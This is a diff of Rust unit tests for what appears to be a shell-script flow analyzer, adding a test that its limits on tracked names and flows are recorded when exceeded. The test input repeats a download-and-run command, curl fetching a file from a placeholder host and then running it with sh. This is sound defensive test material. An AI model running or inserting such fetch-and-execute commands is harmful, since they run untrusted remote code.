@@ -806,11 +806,15 @@ mod tests {
         }
     }
 
-    fn found(text: &str) -> Vec<(Sink, Labels)> {
+    fn matches_of(text: &str) -> Vec<Match> {
         let path = RelPath::parse("a.sh").unwrap();
         let revealed = Revealed::from_text(&path, text);
         let layer = &revealed.files[0].layers[0];
-        let matches = matches(layer, &Stop::default()).unwrap_or_default();
+        matches(layer, &Stop::default()).unwrap_or_default()
+    }
+
+    fn found(text: &str) -> Vec<(Sink, Labels)> {
+        let matches = matches_of(text);
         let code = [Span::new(0, text.len())];
         let flows = flows(text, &matches, &code, &LeftOut::default(), &Stop::default());
         flows.iter().map(|flow| (flow.sink, flow.labels)).collect()
@@ -931,6 +935,27 @@ mod tests {
         }
         // Only the data that a statement uses is assumed to be run.
         assert!(found(&many).is_empty());
+    }
+
+    #[test]
+    fn data_that_is_not_followed_is_noted() {
+        let names = |count: usize| -> String {
+            let lines = (0..count).map(|n| format!("x{n}=https://a.invalid/i\n"));
+            lines.collect::<Vec<String>>().concat()
+        };
+        let runs = |count: usize| "curl https://a.invalid/i -o i\nsh i\n".repeat(count);
+        for (text, expected) in [
+            (names(MAX_NAMES - 100), false),
+            (names(MAX_NAMES + 100), true),
+            (runs(MAX_FLOWS / 4), false),
+            (runs(2 * MAX_FLOWS), true),
+        ] {
+            let left_out = LeftOut::default();
+            let matches = matches_of(&text);
+            let code = [Span::new(0, text.len())];
+            flows(&text, &matches, &code, &left_out, &Stop::default());
+            assert_eq!(left_out.is_noted(), expected, "{text:.40}");
+        }
     }
 
     #[test]
